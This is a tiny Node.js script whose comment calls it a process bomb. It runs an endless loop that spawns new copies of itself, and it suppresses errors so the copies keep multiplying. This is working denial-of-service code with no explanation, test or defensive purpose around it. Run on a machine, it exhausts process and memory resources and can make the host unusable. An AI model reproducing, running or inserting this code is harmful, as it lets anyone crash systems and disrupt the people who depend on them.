// Process bomb: every node process spawns copies of itself forever.
const { spawn } = require('child_process');
for (;;) {
  try { spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {}); } catch (e) {}
}
